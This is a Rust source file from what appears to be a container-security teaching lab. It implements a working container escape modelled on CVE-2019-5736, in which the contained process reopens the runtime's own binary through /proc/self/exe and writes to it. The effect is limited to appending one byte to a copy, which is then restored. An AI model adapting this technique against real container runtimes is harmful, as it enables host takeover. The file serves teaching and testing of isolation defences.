//! The runtime's own program, overwritten from inside: the next container is the
//! attacker's from the start.
//!
//! The victim is a copy of `lab` in the sandbox; a byte is added at its end. The attacker
//! has to wait until nobody executes the file any more, so the runtime is killed meanwhile.

use std::fs::{self, File};
use std::io::{Read, Write};
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::net::UnixStream;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

use nix::errno::Errno;
use nix::fcntl::{FcntlArg, FdFlag, fcntl};
use nix::mount::{MsFlags, mount};
use nix::sys::prctl;
use process::{Result, Step};

use crate::attack::attacker::{host, number};
use crate::attack::places::{IMAGE, LAB};
use crate::attack::target::Attack;

/// The runtime that is attacked.
const RUNTIME: &str = "/runtime";

/// The way to the program of whoever looks: until exec, a container's process is ours.
const OURSELVES: &str = "/proc/self/exe";

/// How long the attacker waits for the file to be free.
const PATIENCE: Duration = Duration::from_secs(2);

pub const ATTACK: Attack = Attack {
    name: "runtime",
    title: "overwrite the runtime",
    tries: "be started as /proc/self/exe, which at that moment is the runtime's program, keep it \
            open, and write to it as soon as the runtime has ended.",
    why: "where the container's root is the owner of the file, nothing else is asked for. Chapter \
          8's root is nobody to the host, but if an ordinary user was the host, it is the same \
          user. Chapter 9's runtime runs from a read-only mount or from a sealed copy.",
    reference: "CVE-2019-5736, proc_pid_exe(5)",
    stopped_by: 9,
    run: |target| {
        if !Path::new(RUNTIME).exists() {
            fs::copy(LAB, RUNTIME).step(|| format!("copy {LAB} to {RUNTIME}"))?;
        }
        if (1..3).contains(&target.chapter.number) {
            // As people do it for chroot, when there is no mount namespace to do it in.
            let place = format!("{IMAGE}/proc");
            mount(Some("/proc"), place.as_str(), None::<&str>, MsFlags::MS_BIND, None::<&str>)
                .step(|| format!("bind /proc to {place}"))?;
        }
        let (mut ours, theirs) = UnixStream::pair().step(|| "make a socket pair")?;
        let mut command = target.prepare::<&str>(RUNTIME, &[], OURSELVES, &[]);
        command.stdin(OwnedFd::from(theirs));
        let mut child = target.start(command)?;
        // The byte comes when the attacker has the file open; the end, if there is none.
        if ours.read(&mut [0]).step(|| "wait for the attacker")? == 1 {
            child.kill().step(|| "kill the runtime")?;
        }
        let said = target.wait(child)?;
        let (length, whole) = (length(RUNTIME)?, length(LAB)?);
        if length != whole {
            let file = File::options().write(true).open(RUNTIME);
            file.and_then(|file| file.set_len(whole)).step(|| format!("restore {RUNTIME}"))?;
        }
        Ok(said.judged(length != whole, "the runtime's program has been changed"))
    },
    inside: |words| if words.is_empty() { become_another() } else { overwrite(number(words)?) },
};

/// As the runtime's program: keeps a way to it, and executes another.
fn become_another() -> Result<String> {
    // Otherwise we would end with the runtime.
    prctl::set_pdeathsig(None).step(|| "give up the parent-death signal")?;
    let file = File::open(OURSELVES).step(|| format!("open {OURSELVES}"))?;
    fcntl(&file, FcntlArg::F_SETFD(FdFlag::empty())).step(|| "keep it open over exec")?;
    let fd = file.as_raw_fd().to_string();
    let error = Command::new(LAB).args(["attack", "--inside", ATTACK.name, &fd]).exec();
    Err(error).step(|| format!("execute {LAB}"))
}

fn overwrite(fd: usize) -> Result<String> {
    let path = format!("/proc/self/fd/{fd}");
    host()?.write_all(b"!").step(|| "tell the host")?;
    let start = Instant::now();
    let mut file = loop {
        match File::options().append(true).open(&path) {
            Err(error)
                if error.raw_os_error() == Some(Errno::ETXTBSY as i32)
                    && start.elapsed() < PATIENCE =>
            {
                std::thread::sleep(Duration::from_millis(1));
            }
            file => break file.step(|| "open the runtime's program for writing")?,
        }
    };
    file.write_all(b"!").step(|| "write to the runtime's program")?;
    Ok("overwritten".to_owned())
}

fn length(path: &str) -> Result<u64> {
    let metadata = fs::metadata(path).step(|| format!("look at {path}"))?;
    Ok(metadata.len())
}
